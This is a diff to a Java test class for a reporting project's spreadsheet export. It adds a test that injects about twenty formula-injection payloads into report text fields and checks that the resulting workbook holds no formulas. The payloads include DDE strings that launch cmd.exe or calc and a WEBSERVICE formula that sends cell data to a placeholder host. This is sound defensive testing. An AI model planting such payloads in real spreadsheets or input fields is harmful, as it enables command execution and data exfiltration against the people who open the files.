@@ -1,11 +1,16 @@
 package no.stegvis.reporting;
 
 import java.io.ByteArrayInputStream;
+import java.io.IOException;
 import java.nio.file.Files;
 import java.nio.file.Path;
 import java.time.Instant;
 import java.util.List;
+import java.util.Set;
 
+import com.fasterxml.jackson.databind.JsonNode;
+import com.fasterxml.jackson.databind.ObjectMapper;
+import com.fasterxml.jackson.databind.node.ObjectNode;
 import no.stegvis.TestDatabase;
 import no.stegvis.funding.Awards;
 import no.stegvis.reporting.batch.ReportRunner;
@@ -35,6 +40,10 @@ import static org.assertj.core.api.Assertions.assertThat;
 @ContextConfiguration(initializers = TestDatabase.class)
 @TestInstance(TestInstance.Lifecycle.PER_CLASS)
 class ReportFilesTests {
+
+    /** What somebody writes: in a scheme, an award, the names of units. */
+    private static final Set<String> TEXTS = Set.of("title", "subtitle", "funder", "post", "awardName", "letterReference", "recipient", "text",
+            "rowHeading", "label", "note");
 
     @Autowired
     JdbcClient jdbc;
@@ -116,7 +125,7 @@ class ReportFilesTests {
             for (ReportDocument.Row row : table.rows()) {
                 StringBuilder expected = new StringBuilder(row.label());
                 for (int i = 0; i < row.cells().size(); i++) {
-                    expected.append(' ').append(table.columns().get(i).write(row.cells().get(i)).replace('\u00a0', ' '));
+                    expected.append(' ').append(table.columns().get(i).write(row.cells().get(i), report.header().locale()).replace('\u00a0', ' '));
                 }
                 int at = lines.subList(from, lines.size()).indexOf(expected.toString());
                 assertThat(at).as("«%s» of %s", expected, table.id()).isNotNegative();
@@ -149,6 +158,59 @@ class ReportFilesTests {
             }
             assertThat(seen).isTrue();
         }
+    }
+
+    /** S8: each of two hundred, in every text that comes from data. */
+    @Test
+    void nothingThatSomebodyMayWriteBecomesAFormula() throws Exception {
+        int payloads = 0;
+        for (String lead : List.of("=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "'=", "＝")) {
+            for (String rest : List.of("1+1", "cmd|' /C calc'!A0", "HYPERLINK(\"http://ond.example\";\"her\")", "WEBSERVICE(\"http://ond.example/\"&A1)",
+                    "IMPORTXML(\"http://ond.example\";\"//a\")", "DDE(\"cmd\";\"/C calc\";\"x\")", "MSEXCEL|'\\..\\cmd.exe'!''", "rundll32|'x'!A1", "SUM(A1:A9)",
+                    "INDIRECT(\"A1\")", "A1&B1", "2+5+cmd|' /C calc'!A0", "@SUM(1+1)", "EXEC(\"calc\")", "CALL(\"a\")", "FILTERXML(A1;\"//b\")", "{=1}",
+                    "IMAGE(\"http://ond.example\")", "LET(x;1;x)", "Vest")) {
+                payloads++;
+                holdsNoFormula(workbooks.write(ReportDocument.fromJson(written(lead + rest))), lead);
+            }
+        }
+        assertThat(payloads).isEqualTo(200);
+    }
+
+    /** The report with the payload as each of its texts; what names a thing or is one of a few words stays. */
+    private byte[] written(String payload) throws IOException {
+        ObjectMapper json = new ObjectMapper();
+        JsonNode tree = json.readTree(report.toJson());
+        fill(tree, payload);
+        return json.writeValueAsBytes(tree);
+    }
+
+    private static void fill(JsonNode node, String payload) {
+        if (node instanceof ObjectNode object) {
+            object.fieldNames().forEachRemaining(name -> {
+                if (object.get(name).isTextual() && TEXTS.contains(name)) {
+                    object.put(name, payload);
+                }
+            });
+        }
+        node.forEach(part -> fill(part, payload));
+    }
+
+    private static void holdsNoFormula(byte[] content, String lead) throws IOException {
+        int begin = 0;
+        try (XSSFWorkbook opened = new XSSFWorkbook(new ByteArrayInputStream(content))) {
+            for (var sheet : opened) {
+                for (var row : sheet) {
+                    for (var cell : row) {
+                        assertThat(cell.getCellType()).as(cell.getAddress().toString()).isNotEqualTo(CellType.FORMULA);
+                        if (cell.getCellType() == CellType.STRING && cell.getStringCellValue().replace('\r', '\n').startsWith(lead.replace('\r', '\n'))) {
+                            begin++;
+                            assertThat(cell.getCellStyle().getQuotePrefixed()).as(cell.getStringCellValue()).isTrue();
+                        }
+                    }
+                }
+            }
+        }
+        assertThat(begin).isGreaterThan(20);
     }
 
     @Test
